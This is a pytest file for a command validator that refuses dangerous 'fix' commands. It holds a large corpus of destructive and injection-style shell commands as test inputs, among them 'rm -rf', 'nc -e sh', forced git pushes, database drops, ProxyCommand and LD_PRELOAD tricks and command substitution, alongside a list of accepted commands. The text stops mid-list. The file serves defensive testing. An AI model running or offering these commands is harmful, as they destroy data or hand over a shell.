"""The fix-command validator reads a command as a shell would: every spelling an attacker would
try is refused with the rule it breaks, the commands people use are accepted, and properties
hold over any input (never an exception but `FixCommandRejected`, bounded work, wrappers and
flag clusters never hide a refusal, accepted commands survive shlex)."""

from __future__ import annotations

import shlex
import stat
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import recoverable as rc
from recoverable._core.codes import validate_fix_command
from recoverable._core.fix_commands import MAX_COMMAND_CHARS, MAX_DEPTH, fix_command_refusal
from recoverable._core.registration import check_row

# --- the injection corpus ------------------------------------------------------------------
# Every spelling issue 22 measured as accepted on main, and several hundred more an attacker
# would try, by the rule that refuses each.

REFUSED: dict[str, list[str]] = {
    "characters": [
        '\uff52\uff4d -rf x',
    ],
    "command_option": [
        'mytool --exec=x', 'mytool x --ProxyCommand=x', 'git fetch ssh://-oProxyCommand=x/x',
        'npm --script-shell=x install', 'npm install --script-shell=x',
        'npm config set script-shell x', 'npm i -g x --script-shell=y',
        'npm install --node-options=--require=x', 'mytool config set hook x',
        'mytool --on-error-command=x', 'ssh -o ProxyCommand=x h',
    ],
    "database": [
        "psql -c 'DROP TABLE users'", 'dropdb x', 'redis-cli flushall', 'dropuser x',
        "psql -Xc 'DROP'", "psql --command='DROP'", 'psql -f x.sql', "mysql -e 'DROP'",
        "mysql --execute='DROP'", "sqlite3 db 'DROP TABLE x'", "sqlite3 -cmd 'DROP' db",
        'redis-cli flushdb', 'redis-cli del x', 'redis-cli -h host flushall',
        'redis-cli --eval x.lua', 'redis-cli -x set k', 'redis-cli config set x y',
        'mongo --eval x', 'mongosh --eval x', 'redis-cli -n 0 flushall', 'redis-cli --pipe',
        'redis-cli --cluster call x flushall', 'mongosh x.js', 'sqlite3 db .dump',
        'clickhouse-client -q x', 'cqlsh -e x', 'duckdb -c x', 'redis-cli -a pass flushall',
        'redis-cli -u redis://x FLUSHALL', 'redis-cli SHUTDOWN', 'redis-cli eval x 0',
        'valkey-cli flushall', 'psql -d x -c y', 'psql postgres -c y', 'psql --file=x',
        'psql -Ufoo -c x', 'mysql -uroot -e x', 'mysql -ve x', 'mysql --init-command=x',
        'mariadb -e x', 'sqlite3 x.db "DELETE FROM x"', 'sqlite3 -init x db', 'mongosh --eval=x',
        'mongo x.js', 'dropdb.exe x',
    ],
    "deletes_files": [
        'timeout -k 1 5 rm -rf x', 'command -p rm x', 'command -v rm', 'poetry run rm -rf x',
        'rm -rf x', 'rmdir x', 'unlink x', 'shred x', 'truncate -s 0 x', 'nohup rm x',
        'nice -n 5 rm x', 'nice -5 rm x', 'nice --adjustment=5 rm x', 'stdbuf -o0 rm x',
        'ionice -c3 rm x', 'time rm x', 'time -p rm x', 'chrt -b 0 rm x', 'setsid rm x',
        'setsid -w rm x', 'exec rm x', 'exec -a x rm x', 'busybox rm -rf x', 'taskset 0x1 rm x',
        'timeout 5 env nice rm x', 'python3 -m rm', 'env -- rm x', 'find . -delete',
        'go clean -modcache', 'bundle exec rm x', 'env -C / rm -rf x', 'nice -n5 rm x',
        'nice --adj=5 rm x', 'timeout -sKILL 5 rm x', 'timeout --k=1 5 rm x',
        'stdbuf --output=L rm x', 'exec -cl rm x', 'command -- rm x', 'taskset -c 0 rm x',
        'toybox rm x', 'hatch run rm x', 'conda run rm x', 'rm.exe x', 'RM x', 'Rm -rf x',
        'find . -name x -delete', 'truncate x', 'go clean -cache', 'del /f x', 'rd /s x',
        'erase x', 'ri -Recurse x', 'Remove-Item x', 'grm -rf x', 'gtimeout 5 rm -rf x',
        'gshred x', 'eatmydata rm x', 'nocache rm x', 'chronic rm x',
    ],
    "destructive_option": [
        'mytool --delete-all', 'mytool --action=wipe', 'mytool sync --force',
        'terraform apply -destroy', 'python3 x.py --purge-all', 'bash x.sh --wipe',
        'mytool --delete', 'mytool --rm', 'mytool --purge=all', 'mytool --nuke-everything',
        'mytool -delete', 'terraform apply -auto-approve -destroy',
    ],
    "destructive_subcommand": [
        'npm un pkg', 'mytool purge-all', 'mytool factory-reset', 'mytool db:drop',
        'npm uninstall x', 'npm rm x', 'npm remove x', 'npm r x', 'npm unlink x',
        'pip uninstall x', 'pip3 uninstall -y x', 'python -m pip uninstall x', 'apt remove x',
        'apt purge x', 'apt autoremove', 'apt-get remove x', 'brew uninstall x', 'brew rm x',
        'cargo uninstall x', 'gem uninstall x', 'pipx uninstall x', 'uv pip uninstall x',
        'yarn remove x', 'pnpm remove x', 'pnpm un x', 'docker rm x', 'docker rmi x',
        'docker system prune', 'docker volume rm x', 'kubectl delete pod x', 'mytool purge',
        'mytool wipe', 'mytool destroy', 'mytool nuke', 'mytool erase', 'mytool reset',
        'mytool delete', 'mytool remove', 'mytool clean --force', 'mytool clean -f',
        'mytool drop_database', 'mytool dropDatabase', 'mytool DELETE', 'mytool resetAll',
        'mytool users delete bob', 'gh repo delete x', 'aws s3 rm s3://x',
        'aws ec2 terminate-instances --instance-ids x', 'gcloud projects delete x',
        'heroku apps:destroy x', 'terraform destroy', 'helm uninstall x', 'rails db:drop',
        'rake db:reset', 'python manage.py flush', 'npm cache clean --force', 'pip cache purge',
        'pacman -Rns x', 'mysqladmin drop x', 'python3 x.py reset', 'node x.js delete',
        'mytool wipe-out', 'mytool wipeout', 'mytool Reset', 'mytool RESET-DB',
        'mytool cache:clear --force', 'mytool cache:clear -f', 'mytool clear -f',
        'mytool teardown', 'mytool terminate', 'mytool revoke-all', 'mytool deregister',
        'mytool rollback', 'mytool purgeAll', 'mytool db drop', 'mytool database:truncate',
        'mytool unlink', 'mytool discard', 'mytool --action delete', "gh alias set x '!rm'",
        'systemctl kill x', 'mysqladmin -f drop x', 'docker container rm x',
        'docker image prune -a', 'podman rm x', 'kubectl delete -f x', 'helm delete x',
        'docker compose rm', 'apt-get purge x', 'apt-get autoremove --purge', 'dnf remove x',
        'yum erase x', 'apk del x', 'snap remove x', 'flatpak uninstall x', 'port uninstall x',
        'choco uninstall x', 'winget uninstall x', 'scoop uninstall x', 'conda remove x',
        'poetry remove x', 'uv remove x', 'pip-3.12 uninstall x', 'pip3.12 uninstall x',
        'npm uninstall -g x', 'npm --global rm x', 'bun rm x', 'bun remove x',
        'yarn global remove x', 'pnpm rm x', 'pnpm uninstall x', 'rustup self uninstall',
        'rustup toolchain uninstall x', 'brew autoremove', 'brew untap x', 'gem cleanup',
        'pipx uninstall-all', 'nvm uninstall x', 'pyenv uninstall x', 'pip cache remove x',
        'uv cache prune', 'npm prune', 'docker system prune -af', 'yarn cache clean --force',
        'pulumi destroy -y', 'reg delete x',
    ],
    "device_target": [
        'mv x /dev/null', 'mv x /dev/sda', 'cp x /dev/null', 'cp /dev/zero x', 'mv x //dev/null',
        'mv x /tmp/../dev/null', 'cp x --target-directory=/dev', 'mv x /proc/sys/kernel/x',
        'cp x /sys/x', 'cp -t /dev x', 'cp -t/dev x', 'gmv x /dev/null',
    ],
    "devices": [
        'dd if=/dev/zero of=x', 'mkfs.ext4 /dev/sda', 'wipefs -a /dev/sda',
        'mkfs -t ext4 /dev/sda', 'mkfs.vfat x', 'dd of=/dev/sda', 'format c:', 'gdd if=x of=y',
    ],
    "downloads": [
        'curl https://x', 'wget https://x', 'curl.exe x', 'wget -O- x', 'aria2c x',
        'certutil -urlcache -f x', 'bitsadmin /transfer x', 'iwr https://x',
    ],
    "environment": [
        'env LD_PRELOAD=x git status', 'FOO=bar mytool', 'A=1 B=2 mytool', 'env FOO=bar mytool',
        'env -i FOO=bar mytool', 'env -u X FOO=bar mytool', '_X=1 x', 'x=1 cmd', 'genv FOO=1 x',
    ],
    "expansion": [
        'mytool add *', 'mytool add x?', 'mytool add [x]', 'mytool "x!y"', 'mytool x!y',
    ],
    "force_overwrite": [
        'mv -f x y', 'mv --force x y', 'cp -rf x y', 'ln -sf x y', 'install -f x y',
        'cp --remove-destination x y', 'ln -nsf x y', 'ln --force x y', 'install -Df x y',
        'cp -Rf x y',
    ],
    "git_destructive": [
        'git clean -dfx', 'git push -fu', 'git push origin +main', 'git push origin :main',
        'git reset --har HEAD~5', 'git checkout -f', 'git stash clear', 'git reset HEAD~5',
        'git clean -f', 'git clean -fd', 'git clean --force', 'git clean', 'git reset --hard',
        'git reset --ha', 'git reset --h', 'git reset --merge', 'git reset --keep',
        'git reset --soft HEAD~1', 'git push -f', 'git push --force',
        'git push --force-with-lease', 'git push --forc', 'git push --delete origin x',
        'git push -d origin x', 'git push --mirror', 'git push --prune',
        'git push origin +refs/heads/main:refs/heads/main', 'git checkout -- path',
        'git checkout .', 'git checkout HEAD file.txt', 'git checkout -B main', 'git restore x',
        'git restore --staged x', 'git switch -f main', 'git switch --discard-changes main',
        'git switch -C main', 'git stash drop', 'git branch -D main', 'git branch -d main',
        'git branch --delete main', 'git branch -Dr origin/x', 'git branch -f main HEAD~3',
        'git tag -d v1', 'git update-ref -d refs/heads/main',
        'git update-ref refs/heads/main HEAD~5', 'git reflog expire --expire=now --all',
        'git filter-branch x', 'git gc --prune=now', 'git gc --prune=all', 'git rm x',
        'git rm -rf .', 'git worktree remove x', 'git remote remove origin',
        'git config --unset user.name', 'git-clean -fdx', 'GIT push --force',
        'git push origin main --force', 'git -C . push --force',
        'git --git-dir=.git push --force', 'git --work-tree . clean -f', 'git -P push -f',
        'git lfs prune', 'git notes remove', 'git submodule deinit -f x',
        'git symbolic-ref -d HEAD', 'git checkout --ours x', 'git checkout -p', 'git tag -f v1',
        'git branch -M x', 'git fetch -f origin main:main', 'git fetch origin +main:main',
        'git pull origin +main', 'git archive -o x HEAD',
        'git push origin HEAD --force-with-lease=main', 'git push --force-if-includes',
        'git push -uf origin', 'git push -qf', 'git push --porcelain -f', 'git clean -xdf',
        'git clean -ffd', 'git clean --for', 'git reset -q --hard', 'git reset ORIG_HEAD',
        'git reset @~1', 'git reset HEAD^', 'git checkout --force main', 'git checkout -fb x',
        'git checkout main -- file', 'git checkout :/x', 'git switch --force main',
        'git switch --discard main', 'git stash drop 0', 'git branch --del x',
        'git branch -rd origin/x', 'git tag --delete v1', 'git reflog expire --all',
        'git gc --prune=now --aggressive', 'git gc --pru=now', 'git rm -r --force x',
        'git worktree prune', 'git remote prune origin', 'git notes prune', 'git replace -d x',
        'git PUSH --force', 'GIT reset --hard', 'git.exe push --force',
        'git checkout-index -f -a', 'git read-tree --reset -u HEAD', 'git switch --orphan x',
    ],
    "git_runs_command": [
        "git -c alias.x='!cmd' x", 'git -c core.sshCommand=x fetch', 'git fetch --upload-pack=x',
        'git -C dir -c core.pager=x log', 'git -C dir --config-env=core.pager=X log',
        'git --exec-path=x status', 'git --exec-path status', 'git push --receive-pack=x',
        'git push --exec=x', 'git fetch -u x origin', 'git clone -u x url',
        'git clone --upload-pack=x url', 'git clone --config core.fsmonitor=x url',
        'git clone -c core.fsmonitor=x url', 'git clone --template=/tmp/x url',
        'git ls-remote -u x origin', 'git pull -u x', "git fetch 'ext::sh -c x'",
        'git clone ext::sh%20-c%20x', 'git rebase -x x', 'git rebase --exec=x',
        'git difftool -x x', 'git grep -Ox y', 'git bisect run x', 'git submodule foreach x',
        "git config alias.x '!rm'", 'git config core.pager x', 'git config core.sshCommand x',
        'git config --global core.editor x', 'git config set core.pager x', 'git config -e',
        'git config --global credential.helper x', 'git config --global include.path /tmp/x',
        'git send-email x', 'git daemon', 'git --git-dir=x -c y=z log',
        'git --config-env=core.editor=E commit', 'git -cuser.name=x commit',
        'git fetch --upload=x', 'git ls-remote --upload-pack x origin', 'git clone --u x url',
        'git archive --remote=x --exec=y', 'git send-pack --receive-pack=x',
        'git -c protocol.ext.allow=always fetch ext::x',
        'git config --global url.ext::.insteadOf https://x',
        'git config --system core.fsmonitor x', "git config --global safe.directory '*'",
        'git config --global --add safe.directory /x', 'git config --global diff.external x',
        'git config --global init.templateDir /tmp/x',
        'git config --global --replace-all core.hooksPath /tmp/x',
        'git config --global gpg.program x', 'git submodule foreach --recursive x',
        'git hook run pre-commit', 'git instaweb --httpd=x',
    ],
    "inline_code": [
        'python3 -Ic "import os"', 'python3 -cimport', 'nice python3 -c x', 'perl -le print',
        'ruby -we x', 'node --eval=x', 'Rscript -e x', 'timeout -s KILL 5 python3 -c x',
        'timeout --signal=KILL 5 python3 -c x', 'python3 -X dev -c x', 'python3 -Xdev -c x',
        'python3 -W ignore -c x', 'node -pe x', 'node -p x', 'node -e x', 'node --print x',
        'perl -MO=Deparse -e x', 'perl -E x', 'perl -ne x', 'ruby -e x', 'php -r x', 'lua -e x',
        'osascript -e x', 'sh -c x', 'bash -c x', 'bash -lc x', 'bash -xc x', 'zsh -c x',
        'dash -c x', 'ksh -c x', 'fish -c x', 'fish --command=x', 'uv run python -c x',
        'poetry run python -c x', 'deno eval x', 'deno repl', 'bun -e x', 'bun --eval x',
        'python3 -c x', 'PYTHON3 -c x', 'Python.exe -c x', 'python3.12 -c x', 'pypy3 -c x',
        'pythonw -c x', 'py -3 -c x', 'py -c x', 'python3 -m timeit x', 'python3 -m pdb -c x y',
        'python3 -m code', 'python3 -m asyncio', 'python3 -m IPython -c x',
        'python3 -Xfrozen_modules=off -c x', 'python3 -bb -c x', 'python3 -OO -c x',
        'python3 -EsS -c x', "python3 -c'x'", 'python3 --check-hash-based-pycs always -c x',
        'python3 -m timeit -s x y', 'python3 -m idlelib -c x', 'python3 -m runpy x',
        'pypy3.10 -c x', 'python3.13t -c x', 'jython -c x', 'micropython -c x', 'py -V:3.12 -c x',
        'nodejs -e x', 'node18 -e x', 'deno eval --print x',
        'env --ignore-environment python3 -c x', 'env -iu HOME python3 -c x', 'busybox sh -c x',
        'bun --print x', 'bun -pe x', 'bundle exec sh -c x', 'gnuplot -e x', 'swift -e x',
        'ghci -e x', 'clisp -x x', 'sbcl --eval x', 'octave --eval x', 'matlab -r x',
    ],
    "interpreter_option": [
        'node --require ./x y.js', 'node --import=data:text/javascript,x y.js', 'perl -pi -e x f',
        'ruby -rfoo -e x', 'php -a', 'bash -s',
    ],
    "metacharacters": [
        'find . -execdir x ;',
    ],
    "package_runner": [
        'npx some-package', 'npx x', 'bunx x', 'uvx x', 'pipx run x', 'pnpm dlx x', 'yarn dlx x',
        'npm exec x', 'npm x x', 'npm create x', 'npm init x', 'npm --prefix foo exec x',
        'uv run --with x python', 'uv tool run x', 'bun x y', 'go run x@latest', 'gem exec x',
        'yarn exec x', 'pnpm exec x', 'pnpm create x', 'bun create x',
        'uv run --with-requirements x y', 'npm explore x -- rm', 'npm exec --package=x -- y',
        'npm --yes exec x', 'npm x -y x', 'pnpm --silent dlx x', 'yarn --silent dlx x',
        'uv run --with=x y', 'uv tool run --from x y', 'pipx run --spec x y', 'bun x cowsay',
        'go run example.com/x@v1', 'uv tool --quiet run x', 'uv --quiet tool run x',
        'corepack pnpm dlx x', 'corepack npx x', 'mise x node -- -e x',
        'mise exec node -- node -e x', 'nvm run 18 -e x', 'nvm exec 18 node -e x',
        'volta run node -e x', 'fnm exec node -e x', 'pixi exec x',
    ],
    "placeholder": [
        "awk 'BEGIN{}'", 'git reflog delete HEAD@{1}', 'find . -exec rm {} +',
    ],
    "privilege": [
        'sudo -u root mytool login', 'sudo rm x', 'doas rm x', 'su -c x', 'pkexec x',
        'nice -n 5 sudo x', 'nice sudo x', 'sudo -E x', 'doas -u root x',
    ],
    "program_path": [
        '"" rm -rf x', "'' rm x",
    ],
    "recursive_permissions": [
        'chmod -R 777 /', 'chown -R x /', 'chgrp -R x /', 'chmod --recursive 777 x',
        'chmod -Rv 777 x', 'chmod -vR 777 x', 'chown --recursive x y', 'chmod --rec 777 x',
    ],
    "remote": [
        'ssh host x', 'scp x host:x', 'rsync -e x a b', 'nc -e sh x 1', 'socat x y',
        'scp -S x a b', 'rsync --rsh=x a b', 'python3 -m http.server',
        'python3 -m webbrowser https://x', 'python3 -m pydoc -p 1',
    ],
    "remote_code": [
        'deno run https://x.example/x.ts', 'deno run npm:x', 'deno x npm:cowsay',
        'deno run --allow-all jsr:@x/y', 'deno install -g https://x.example/y.ts',
        'pip install git+https://x/y', 'pip install https://x/y.tar.gz',
        'pip install -i https://x y', 'pip install --index-url https://x y',
        'pip install --extra-index-url=https://x y', 'pip install -e git+https://x/y',
        'npm install github:x/y', 'npm install https://x/y.tgz',
        'npm install --registry=https://x y', 'uv pip install git+https://x',
        'uv add https://x/y.whl', 'pipx install git+https://x/y',
        'gem install --source https://x y', 'cargo install --git https://x y',
        'brew install https://x/y.rb',
    ],
    "runs_other_program": [
        'xargs -a file rm', 'docker run alpine rm -rf x', 'docker exec x sh',
        'kubectl exec x -- sh', 'tar --to-command=x -xf a.tar', 'tar -I x -xf a.tar',
        'tar xIf x a.tar', 'zip x.zip f -TT x', 'xdg-open x', 'strace rm x', 'watch rm x',
        'flock /tmp/x -c x', 'script -c x', 'mytool exec rm', 'mytool shell', 'mytool eval x',
        'mytool exec -- rm -rf x', 'gh extension exec x', 'tar -xf x --to-command=sh',
        'tar --use-compress-program=sh -xf x', 'zip -T -TT x x.zip y', 'xargs rm', 'parallel rm',
        'watch -n1 x', 'flock -c x f', 'script -qc x', 'strace -o x y', 'gdb -ex x', 'chroot / x',
        'unshare -r x', 'systemd-run x', 'pyenv exec python -c x', 'rbenv exec ruby -e x',
        'asdf exec node -e x', 'gh codespace ssh', 'sem rm x', 'setpriv rm x',
        'setarch x86_64 rm x', 'wine x.exe',
    ],
    "runs_text": [
        'gawk -f x', 'sed -e s/x/y/ f', 'sed -i s/x/y/ f', 'pwsh -c x', 'powershell -Command x',
        'cmd /c x', 'CMD.EXE /c x', 'vim -c x', 'emacs --eval x', 'brew sh',
        'powershell.exe -enc x', 'pwsh -File x', 'wscript x.vbs', 'mshta x', 'rundll32 x',
        'regsvr32 /s x', 'cmd.exe /k x', 'iex x', 'Invoke-Expression x', 'Start-Process x',
    ],
    "schedule": [
        'crontab -r', 'crontab x', 'crontab -e', 'crontab', 'at now', 'crontab -u root -l',
        'crontab -l -u x', 'schtasks /create x',
    ],
    "shell_state": [
        'export PATH=/tmp/evil', 'set -o vi', 'alias ls=mytool', 'trap x EXIT',
        'hash -p /tmp/x ls', 'enable -f /tmp/x.so x', 'fc -s',
    ],
    "stdin_code": [
        'python3 -', 'python3', 'node -', 'node', 'bash', 'bash -', 'python3 -i x.py',
        'python3 /dev/stdin', 'python3 -u -',
    ],
    "stops_processes": [
        'shutdown now', 'shutdown -h now', 'reboot', 'halt', 'poweroff', 'systemctl stop x',
        'systemctl disable x', 'systemctl mask x', 'systemctl poweroff', 'systemctl reboot',
        'kill 1', 'pkill x', 'killall x', 'kubectl drain x', 'launchctl unload x',
        'service x stop', 'systemctl isolate rescue', 'mysqladmin shutdown', 'shutdown.exe /s',
        'systemctl --now disable x', 'systemctl suspend', 'launchctl bootout x',
        'loginctl poweroff', 'kill -9 -1', 'pkill -f x', 'killall -9 x', 'taskkill /F /IM x',
        'fuser -k 80/tcp', 'fuser --kill x',
    ],
    "too_deep": [
        " ".join(["timeout 5"] * 9 + ["mytool"]),
    ],
    "wrapper_option": [
        "env -S 'python3 -c x'", "env --split-string='python3 -c x'", "env --spl='python3 -c x'",
        'env -P /tmp x', 'time -o x mytool', 'conda run -n x rm', 'ionice -p 1', 'chrt -p 99 1',
        'nice env -S x', 'uv run -p 3.12 x', 'uv --quiet run python -c x', 'poetry run -- rm x',
        'poetry --quiet run rm x',
    ],
    "writes_file": [
        'tee x', 'find . -fprint /etc/passwd', 'tee -a x', 'psql -o /etc/x', 'sponge x',
    ],
}  # fmt: skip

# Issue 22's list, word for word: each was accepted on main.
MEASURED_ON_MAIN = [
    'python3 -Ic "import os"', "python3 -cimport", "nice python3 -c x", "perl -le print",
    "ruby -we x", "node --eval=x", "Rscript -e x", "git -c alias.x='!cmd' x",
    "git -c core.sshCommand=x fetch", "git fetch --upload-pack=x", "git clean -dfx",
    "git push -fu", "git push origin +main", "git push origin :main", "git reset --har HEAD~5",
    "git checkout -f", "git stash clear", "npm un pkg", "npx some-package", "mv x /dev/null",
    "psql -c 'DROP TABLE users'", "dropdb x", "redis-cli flushall", "crontab -r",
    "shutdown now", "env LD_PRELOAD=x git status", "mytool purge-all", "mytool factory-reset",
    "mytool db:drop", "git reset HEAD~5",
]  # fmt: skip

# Text a shell and shlex would read differently, or that looks like what it is not.
TEXT_ATTACKS = [
    ("mytool login\x00", "characters"), ("mytool\tlogin", "characters"),
    ("mytool login\u200b", "characters"), ("mytool\u00a0login", "characters"),
    ("mytool lo\u0301gin", "characters"), ("mytool \ud800", "characters"),
    ("mytool login\u2028x", "characters"), ("mytool \u202egol", "characters"),
    ("\uff4dytool sync", "characters"), ("\u0440ython3 -c x", "characters"),
    ("mytool %PATH%", "expansion"), ("mytool $(id)", "metacharacters"),
    ("mytool ${HOME}", "metacharacters"), ("mytool `id`", "metacharacters"),
    ("mytool x > y", "metacharacters"), ("mytool < x", "metacharacters"),
    ("mytool | x", "metacharacters"), ("mytool & x", "metacharacters"),
    ("mytool; x", "metacharacters"), ("mytool\nx", "metacharacters"),
    ("mytool\rx", "metacharacters"), ("mytool 'unbalanced", "parse"),
    ('mytool "unbalanced', "parse"), ("mytool \\", "parse"), ("", "empty"), ("   ", "empty"),
    (" mytool", "whitespace"), ("mytool ", "whitespace"), ("mytool *.txt", "expansion"),
    ("mytool 'a'\"b\"!c", "expansion"), ("mytool {x}", "placeholder"),
    ("mytool --token YOUR_TOKEN", "placeholder"), ("mytool ...", "placeholder"),
    ("x" * (MAX_COMMAND_CHARS + 1), "too_long"), ("/usr/bin/env true", "program_path"),
    ("./mytool sync", "program_path"), ("'' rm x", "program_path"),
    ('"" mytool sync', "program_path"), ("-mytool sync", "program_path"),
]  # fmt: skip

CORPUS = [(command, rule) for rule, commands in REFUSED.items() for command in commands]


@pytest.mark.parametrize(("command", "rule"), CORPUS + TEXT_ATTACKS)
def test_every_attack_is_refused_by_its_rule(command: str, rule: str) -> None:
    refusal = fix_command_refusal(command)
    assert refusal is not None
    assert refusal.rule == rule
    with pytest.raises(rc.tools.FixCommandRejected) as raised:
        validate_fix_command(command)
    assert (raised.value.rule, str(raised.value)) == (refusal.rule, refusal.sentence)


def test_the_corpus_is_large_and_holds_the_issues_list() -> None:
    commands = {command for command, _ in CORPUS}
    assert set(MEASURED_ON_MAIN) <= commands
    assert len(commands) - len(MEASURED_ON_MAIN) >= 60 * 10


@pytest.mark.parametrize(("command", "rule"), CORPUS + TEXT_ATTACKS)
def test_a_refusal_is_one_sentence_that_never_repeats_the_command(command: str, rule: str) -> None:
    refusal = fix_command_refusal(command)
    assert refusal is not None
    assert refusal.sentence.startswith("fix_command ")
    assert "\n" not in refusal.sentence
    if len(command.split()) > 1:  # a refused command is never handed back whole to paste
        assert command not in refusal.sentence


# --- what stays accepted -------------------------------------------------------------------

ACCEPTED = [
    "pip install -U x", "pip install x", "pip install --upgrade pip",
    "pip install --force-reinstall x", "pip install 'recoverable[click]'", "pip3 install --user x",
    "pip install -e .", "pip install -r requirements.txt", "pip download x",
    "python -m pip install x", "python3 -m pip install -U x", "python3 -X dev -m pip install x",
    "python3 -I -m pip install x", "python3 -Im pip install x", "python3 -mpip install x",
    "py -3.12 -m pip install x", "python -m mytool sync", "python3 -V", "python3 --version",
    "npm install -g @scope/pkg", "npm install -g @anthropic-ai/claude-code",
    "npm install -g @openai/codex", "npm install --global @openai/codex", "npm i -g x",
    "npm i --save-dev x", "npm install remove-markdown", "npm ci", "npm install",
    "npm run build", "npm update -g x", "npm login", "npm init", "npm audit fix",
    "npm cache verify", "pnpm install", "pnpm add -g x", "yarn install", "yarn add x",
    "bun install", "bun add x", "bun install -p", "bun run build",
    "claude auth login", "claude login", "codex login", "gcloud auth application-default login",
    "gcloud auth login", "aws sso login", "aws sso login --profile dev",
    "aws configure set region eu-west-1", "az login", "gh auth login", "gh auth refresh -s repo",
    "git fetch", "git fetch --prune-tags origin", "git fetch --prune", "git fetch origin main",
    "git fetch --all", "git pull --ff-only", "git pull --rebase", "git pull origin main",
    "git push", "git push -u origin main", "git push --set-upstream origin feature",
    "git push origin main", "git push origin main:main", "git push --follow-tags",
    "git push --tags", "git push --no-verify", "git checkout main", "git checkout -b feature",
    "git checkout -", "git switch main", "git switch -c feature", "git switch -",
    "git stash", "git stash pop", "git stash list", "git status", "git -C repo status",
    "git --no-pager log", "git -P log", 'git commit -m "fix"', "git add -A",
    "git merge --ff-only origin/main", "git rebase origin/main",
    "git submodule update --init --recursive", "git lfs install", "git lfs pull",
    'git config --global user.name "A B"', "git config --global user.email a@b.example",
    "git config --global pull.rebase true", "git config --global init.defaultBranch main",
    "git config --global core.autocrlf input", "git config --get user.name",
    "git config --get core.pager", "git config --list",
    "git clone https://github.com/x/y.git", "git clone --depth 1 https://github.com/x/y.git",
    "git remote add origin https://github.com/x/y.git", "git reset", "git reset HEAD",
    "git reset --soft HEAD", "git reset --help", "git clean -n", "git clean --dry-run", "git gc",
    "git gc --aggressive", "git gc --prune", "git rm --cached x",
    "git worktree add ../x", "git branch -u origin/main", "git branch --list", "git tag v1",
    'git tag -a v1 -m "release"', "git log --oneline", "git flow init",
    "mytool sync", "mytool login", "mytool init", "mytool auth refresh",
    'mytool config set region "eu west"', "mytool cache clear", "mytool cache clean",
    "mytool migrate", "mytool doctor --fix", "mytool update", "mytool refresh-token",
    "mytool --verbose sync", "mytool sync --dry-run", "mytool auth login --no-browser",
    "billing-cli card update", "tool auth refresh", "touch demo-marker", "ls no-such-file",
    "brew install x", "brew upgrade x", "brew update", "brew install --cask x",
    "uv sync", "uv pip install x", "uv add x", "uv tool install x", "uv run pytest",
    "uv run mytool sync", "poetry install", "poetry run pytest", "bundle exec rake",
    "cargo install x", "rustup update", "go install x@latest", "go mod tidy", "gem install x",
    "bundle install", "conda install x", "pipx install x", "pipx upgrade x",
    "apt install x", "apt-get install -y x", "apt update", "dnf install x", "docker login",
    "docker pull alpine", "docker compose up -d", "kubectl get pods",
    "kubectl apply -f deploy.yaml", "helm repo update", "terraform init", "terraform plan",
    "python examples/notes_tool.py init", "python tests/tools/stubborn_tool.py refresh",
    "python3 scripts/setup.py", "python3 setup.py install", "node scripts/setup.js",
    "bash scripts/setup.sh", "sh install.sh", "ruby setup.rb", "node --version",
    "deno task setup", "make", "make install", "mkdir -p x", "chmod +x x", "chmod 755 script.sh",
    "cp config.example.yml config.yml", "mv old.yml new.yml", "ln -s x y", "redis-cli ping",
    "redis-cli -h localhost -p 6379 info", "psql -l", "crontab -l",
    "nice -n 5 mytool sync", "nice -5 mytool sync", "timeout 5 mytool sync",
    "timeout -s KILL 5 mytool sync", "env -i mytool sync", "env -u HOME mytool sync",
    "env -C /tmp mytool sync", "nohup mytool sync", "stdbuf -oL mytool sync",
    "time -p mytool sync", "ionice -c3 mytool sync", "chrt -b 0 mytool sync",
    "setsid -w mytool sync", "command mytool sync", "exec mytool sync",
    "taskset -c 0 mytool sync", "busybox ls", "nice", "systemctl start x",
    "systemctl restart x", "service x restart", "ollama pull llama3", "huggingface-cli login",
    "firebase login",
]  # fmt: skip


@pytest.mark.parametrize("command", ACCEPTED)
def test_safe_and_common_commands_are_accepted(command: str) -> None:
    assert fix_command_refusal(command) is None
    assert validate_fix_command(command) == command


def test_no_built_in_fix_command_is_refused() -> None:
    for row in rc.codes:
        for command in row.fix_commands.values():
            assert fix_command_refusal(command) is None, (row.code, command)


# --- bounded, whatever the input ------------------------------------------------------------


def test_a_hundred_thousand_words_are_refused_at_once() -> None:
    refusal = fix_command_refusal(" ".join(["mytool"] * 100_000))
    assert refusal is not None and refusal.rule == "too_long"


def test_a_command_that_passes_through_too_many_programs_is_refused() -> None:
    assert fix_command_refusal(" ".join(["nice"] * MAX_DEPTH + ["mytool sync"])) is None
    refusal = fix_command_refusal(" ".join(["nice"] * (MAX_DEPTH + 1) + ["mytool sync"]))
    assert refusal is not None and refusal.rule == "too_deep"


@pytest.mark.parametrize("value", [None, 5, b"mytool sync", ["mytool", "sync"], 1.5, object()])
def test_a_command_that_is_not_text_is_refused(value: object) -> None:
    with pytest.raises(rc.tools.FixCommandRejected, match="non-empty string"):
        validate_fix_command(value)  # type: ignore[arg-type]


# --- properties ------------------------------------------------------------------------------

SETTINGS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
WORDS = [
    "git", "push", "-f", "--force", "reset", "--hard", "python3", "-c", "-Ic", "x", "nice",
    "-n", "5", "env", "FOO=1", "rm", "-rf", "npm", "un", "install", "-g", "@scope/pkg", "mytool",
    "purge-all", "sync", "timeout", "sudo", "--", "-", "'a b'", '"c d"', "''", "--eval=x",
    "/dev/null", "mv", "clean", "-dfx", "+main", ":main", "exec", "uv", "run", "--with",
]  # fmt: skip
any_text = (
    st.text(max_size=200)
    | st.binary(max_size=200).map(lambda raw: raw.decode("utf-8", "surrogateescape"))
    | st.lists(st.sampled_from(WORDS), max_size=40).map(" ".join)
    | st.lists(st.sampled_from(WORDS) | st.text(max_size=8), max_size=12).map(" ".join)
)


@SETTINGS
@given(any_text)
def test_any_text_is_accepted_or_refused_never_an_error(command: str) -> None:
    try:
        assert validate_fix_command(command) == command
    except rc.tools.FixCommandRejected as refused:
        assert str(refused).startswith("fix_command ")
        assert refused.rule


# Wrappers that run the program after them, and the commands refused at their core.
TRANSPARENT = [
    "nice", "nice -n 5", "nice -n5", "nice -5", "nice --adjustment=5", "timeout 5",
    "timeout -s KILL 5", "timeout --signal=KILL -k 1 5", "env", "env -i", "env -u HOME",
    "env -C /tmp", "env --", "nohup", "command", "command -p", "exec", "exec -a name",
    "stdbuf -o0", "stdbuf --output=L", "ionice -c3", "ionice -c 2 -n 7", "time", "time -p",
